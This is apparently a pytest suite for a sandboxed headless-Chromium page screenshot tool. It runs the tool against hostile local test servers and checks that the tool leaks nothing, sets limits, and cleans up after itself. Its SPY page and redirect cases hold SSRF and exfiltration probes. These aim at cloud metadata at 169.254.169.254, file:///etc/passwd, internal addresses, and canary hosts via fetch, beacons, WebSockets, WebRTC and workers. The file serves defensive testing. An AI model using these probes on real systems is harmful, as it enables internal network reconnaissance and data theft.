"""Pictures of pages by a real Chromium against servers that mean no good: nothing goes where it may not."""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import ssl
import tempfile
from collections.abc import AsyncIterator, Iterator
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from ipaddress import ip_network
from pathlib import Path

import pytest
import trustme

from probes.kit.net.camera import Camera, Exposure, NoPicture, PagePicture, WhyNot
from probes.kit.net.chromium import NoBrowser, chromium
from probes.kit.net.dial import Dialer
from probes.kit.net.guard import Guard
from probes.kit.net.lanes import Lanes
from probes.kit.net.page_door import PageDoor, PageLimits
from tests.probes.kit.net.loopback import Names, own_address, run, server

PROGRAM = shutil.which("chromium") or ""
needs_browser = pytest.mark.skipif(not PROGRAM, reason="Chromium is not installed")

HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nConnection: close\r\n"
ROOM = 12_000
PATIENT = Exposure(answer=30.0, load=20.0, settle=0.5, draw=30.0)
WATCHFUL = Exposure(answer=30.0, load=20.0, settle=2.0, draw=30.0)
ENDS_NEVER = Exposure(answer=30.0, load=1.0, settle=0.1, draw=30.0)
SAYS_NOTHING = Exposure(answer=2.0, load=1.0, settle=0.1, draw=30.0)
DRAWS_NEVER = Exposure(answer=20.0, load=0.5, settle=0.1, draw=4.0)


def page(html: str) -> bytes:
    body = html.encode()
    return HEAD + b"Content-Length: %d\r\n\r\n" % len(body) + body


def elsewhere(to: str) -> bytes:
    return f"HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".encode()


SCRIPTED = "<body style='margin:0'><script>document.body.style.background = '#0a0'</script>"
ENDLESS = b" " * 65_536
HUGE = HEAD.replace(b"text/html", b"text/javascript") + b"Content-Length: 104857600\r\n\r\n"
KEEP = HEAD + b"Content-Disposition: attachment\r\nContent-Length: 3\r\n\r\nabc"
GONE = b"HTTP/1.1 404 Gone\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
ASKS = (
    "<h1>x</h1><script>alert(1); confirm(2); prompt(3); print(); onbeforeunload = () => 1</script>"
)
SPY = """<h1>spy</h1><img src=http://{canary}/a><iframe src=http://{canary}/b></iframe>
<img src=http://inner.example/c><img src=http://169.254.169.254/d><img src=http://[::1]/e>
<iframe src=file:///etc/passwd></iframe><img src=http://spy.example:8080/f><link rel=preconnect href=http://{canary}>
<link rel=dns-prefetch href=//leak.example><link rel=stylesheet href=https://{canary}/g>
<script>
fetch("http://{canary}/h", {{mode: "no-cors"}}); fetch("http://127.0.0.1:" + location.port + "/i").catch(() => 0);
new WebSocket("ws://{canary}/j"); navigator.sendBeacon("http://{canary}/k", "x"); open("http://{canary}/l");
const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:{canary}:3478"}},
  {{urls: "turn:{canary}:3478?transport=tcp", username: "u", credential: "c"}}]}});
peer.createDataChannel("x"); peer.createOffer().then(offer => peer.setLocalDescription(offer));
try {{ new WebTransport("https://{canary}:3478/m") }} catch (e) {{ }}
navigator.serviceWorker?.register("http://{canary}/n").catch(() => 0);
new Worker(URL.createObjectURL(new Blob(["fetch('http://{canary}/o')"])));
</script>"""


class Town:
    """Sites by name, and what came where nothing may come."""

    def __init__(self) -> None:
        self.names = Names()
        self.asked: list[str] = []
        self.allowed: list[str] = []
        self.forbidden: list[str] = []
        self.canary = own_address()

    @asynccontextmanager
    async def site(
        self, name: str, *answers: bytes, port: int = 80, tls: ssl.SSLContext | None = None
    ) -> AsyncIterator[None]:
        """A host that answers every question so: ENDLESS for ever, and after an empty piece no end."""

        async def behave(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.asked.append((await reader.readuntil(b"\r\n\r\n")).decode())
            for answer in answers:
                writer.write(answer)
                await writer.drain()
            while answers[-1:] == (ENDLESS,):
                writer.write(ENDLESS)
                await writer.drain()
            if not answers or not answers[-1]:
                await reader.read()

        async with server(behave, port, tls=tls) as address:
            self.names[name] = (address,)
            self.allowed.append(address)
            yield

    @asynccontextmanager
    async def watched(self) -> AsyncIterator[None]:
        """Listen where nobody may come."""

        async def note(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.forbidden.append(f"{await reader.read(80)!r}")
            writer.close()

        with socket.socket(type=socket.SOCK_DGRAM) as heard:
            heard.bind((self.canary, 3478))
            heard.setblocking(False)
            async with AsyncExitStack() as stack:
                for port in (80, 443, 3478, 8080):
                    await stack.enter_async_context(server(note, port, at=self.canary))
                yield
            with pytest.raises(BlockingIOError):
                heard.recv(1)

    def camera(self) -> Camera:
        guard = Guard(ip_network(one) for one in self.allowed)
        dialer = Dialer(self.names.addresses, guard, Lanes(total=24, each=8))
        limits = PageLimits(received=3 << 20)
        return Camera(PROGRAM, lambda: PageDoor(dialer, limits=limits), "Revizor/0 (+test)")


CASES: dict[str, tuple[list[bytes], Exposure, object]] = {
    "scripts": ([page(SCRIPTED)], PATIENT, True),
    "dialogs": ([page(ASKS)], PATIENT, True),
    "endless": ([HEAD + b"\r\n<h1>x</h1>", ENDLESS], ENDS_NEVER, False),
    "never": ([HEAD + b"\r\n<h1>x</h1>", b""], ENDS_NEVER, False),
    "huge": ([page("<h1>x</h1><script src=http://bytes.example/></script>")], PATIENT, False),
    "silent": ([], SAYS_NOTHING, WhyNot.NO_ANSWER),
    "inner": ([elsewhere("http://169.254.169.254/latest/")], PATIENT, WhyNot.NOT_ALLOWED),
    "file": ([elsewhere("file:///etc/passwd")], PATIENT, WhyNot.NOT_ALLOWED),
    "leaves": (
        [page("<script>location = 'http://10.0.0.1/'</script>")],
        PATIENT,
        WhyNot.NOT_ALLOWED,
    ),
    "moved": ([elsewhere("http://scripts.example/")], PATIENT, WhyNot.MOVED),
    "keep": ([KEEP], PATIENT, WhyNot.NOT_A_PAGE),
    "gone": ([GONE], PATIENT, WhyNot.REFUSED),
    "untrusted": ([page("x")], PATIENT, WhyNot.CERTIFICATE),
    "loop": ([page("<h1>x</h1><script>for (;;) alert(1)</script>")], DRAWS_NEVER, WhyNot.NOT_DRAWN),
}
"""What a site does, how patient we are, and what comes of it: a whole picture, a part of one, or none."""


def url_of(name: str) -> str:
    return f"{'https' if name == 'untrusted' else 'http'}://{name}.example/"


@needs_browser
def test_every_page_ends_in_a_picture_or_a_reason() -> None:
    """Scripts, dialogs, pages without an end, silence, and ways to where nobody may go: each is bounded.

    What the browser warns its visitors of is not looked at behind the warning.
    """
    town, context = Town(), ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    trustme.CA().issue_cert("untrusted.example").configure_cert(context)

    async def story() -> dict[str, PagePicture | NoPicture]:
        async with AsyncExitStack() as stack:
            for name, (answers, _, _) in CASES.items():
                port, tls = (443, context) if name == "untrusted" else (80, None)
                site = town.site(f"{name}.example", *answers, port=port, tls=tls)
                await stack.enter_async_context(site)
            await stack.enter_async_context(town.site("bytes.example", HUGE, ENDLESS))
            camera = await stack.enter_async_context(town.camera())
            shots = [
                camera.take(url_of(name), ROOM, exposure)
                for name, (_, exposure, _) in CASES.items()
            ]
            return dict(zip(CASES, await asyncio.gather(*shots), strict=True))

    shots = run(story(), within=200)

    ended = {
        name: shot.why if isinstance(shot, NoPicture) else shot.whole
        for name, shot in shots.items()
    }
    assert ended == {name: expected for name, (_, _, expected) in CASES.items()}
    for shot in shots.values():
        if isinstance(shot, PagePicture):
            assert (shot.webp[:4], shot.webp[8:12]) == (b"RIFF", b"WEBP")
            assert 0 < len(shot.webp) <= ROOM
            assert (shot.width, shot.height) == (480, 300)
    assert {line for asked in town.asked for line in asked.splitlines()[:1]} <= {
        "GET / HTTP/1.1",
        "GET /favicon.ico HTTP/1.1",
    }


@needs_browser
def test_a_page_that_looks_for_our_own_network_finds_nothing() -> None:
    """By image, frame, style, socket, beacon, worker, name, WebRTC and QUIC: nothing comes to forbidden ears."""
    town = Town()

    async def story() -> PagePicture | NoPicture:
        async with AsyncExitStack() as stack:
            await stack.enter_async_context(town.watched())
            spy = page(SPY.format(canary=town.canary))
            await stack.enter_async_context(town.site("spy.example", spy))
            town.names["inner.example"] = (town.canary,)
            camera = await stack.enter_async_context(town.camera())
            return await camera.take("http://spy.example/", ROOM, WATCHFUL)

    assert isinstance(run(story(), within=100), PagePicture)
    assert town.forbidden == []
    assert "inner.example" in town.names.asked  # it did try
    agents = {one for asked in town.asked for one in asked.splitlines() if "user-agent" in one}
    assert len(agents) == 1
    assert agents.pop().endswith(" Revizor/0 (+test)")


@pytest.fixture
def scratch(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder for whoever runs the browser to reach, in the place of the system's."""
    with tempfile.TemporaryDirectory(prefix="camera-") as folder:
        Path(folder).chmod(0o755)
        monkeypatch.setattr(tempfile, "tempdir", folder)
        yield Path(folder)


def processes_of(folder: Path) -> list[bytes]:
    """The command lines of all processes that have something to do with a folder."""
    found = []
    for file in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            found.append(file.read_bytes())
    return [line for line in found if str(folder).encode() in line]


@needs_browser
@pytest.mark.parametrize("how", ["ends", "is called off"])
def test_no_process_and_no_folder_is_left(scratch: Path, how: str) -> None:
    """Whether the work ends or somebody presses Ctrl-C."""

    async def story() -> None:
        started = asyncio.Event()

        async def work() -> None:
            async with chromium(PROGRAM):
                assert processes_of(scratch)
                assert len(list(scratch.iterdir())) == 1
                started.set()
                await asyncio.sleep(0 if how == "ends" else 60)

        task = asyncio.create_task(work())
        await started.wait()
        if how != "ends":
            task.cancel()
        await asyncio.gather(task, return_exceptions=True)
        while processes_of(scratch):  # what was killed may take a moment to be gone
            await asyncio.sleep(0.02)

    run(story(), within=60)

    assert list(scratch.iterdir()) == []


@pytest.mark.parametrize(
    ("script", "sentence"),
    [
        ("echo 'No usable sandbox!' >&2; exit 1", "finds no sandbox here"),
        ("echo dbus >&2; echo out of memory >&2; exit 1", "did not start: out of memory"),
        ('printf \'{"id":1,"error":{}}\\0\' >&4; sleep 9', "did not start"),
        ("printf 'nonsense\\0' >&4; sleep 9", "did not start"),
    ],
)
def test_a_browser_that_does_not_start_says_why(scratch: Path, script: str, sentence: str) -> None:
    """One sentence, and nothing left."""
    program = scratch / "chromium"
    program.write_text(f"#!/bin/sh\n{script}\n")
    program.chmod(0o755)

    async def story() -> None:
        async with chromium(str(program)):
            raise AssertionError("it started")

    with pytest.raises(NoBrowser, match=sentence):
        run(story())
    assert list(scratch.iterdir()) == [program]


def test_a_browser_that_is_not_there_is_told_at_once(scratch: Path) -> None:
    """Neither a folder nor a process is made for it."""

    async def story() -> None:
        async with chromium(str(scratch / "nowhere")):
            raise AssertionError("it started")

    with pytest.raises(NoBrowser, match="nowhere cannot be run"):
        run(story())
    assert list(scratch.iterdir()) == []


def test_a_folder_that_nobody_can_reach_is_told(
    scratch: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Root's own TMPDIR is of no use to who runs the browser for him: one sentence says so."""
    monkeypatch.setattr("os.geteuid", lambda: 0)
    scratch.chmod(0o700)

    async def story() -> None:
        async with chromium("sh"):
            raise AssertionError("it started")

    with pytest.raises(NoBrowser, match=r"who cannot reach .*; set TMPDIR"):
        run(story())
    assert list(scratch.iterdir()) == []


@pytest.mark.parametrize("root", [True, False])
def test_root_has_nobody_run_it(scratch: Path, root: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    """The sandbox is kept always: as root the browser runs as `nobody`, and everybody else as himself."""
    if os.geteuid() != 0:
        pytest.skip("only root may run a program as somebody else")
    program, told = scratch / "chromium", scratch / "told"
    told.touch()
    told.chmod(0o666)
    program.write_text(f'#!/bin/sh\n(id -un; echo "$@"; env) >{told}\nexit 1\n')
    program.chmod(0o755)
    if not root:
        monkeypatch.setattr("os.geteuid", lambda: 1000)
    monkeypatch.setenv("http_proxy", "http://proxy.example")

    async def story() -> None:
        async with chromium(str(program)):
            raise AssertionError("it started")

    with pytest.raises(NoBrowser):
        run(story())
    who, flags, *around = told.read_text().splitlines()
    assert who == ("nobody" if root else "root")
    assert "--no-sandbox" not in flags
    assert "--ignore-certificate-errors" not in flags
    assert {line.partition("=")[0] for line in around} <= {
        *("PATH", "LANG", "HOME", "TMPDIR", "XDG_RUNTIME_DIR", "PWD", "OLDPWD", "SHLVL", "_"),
    }
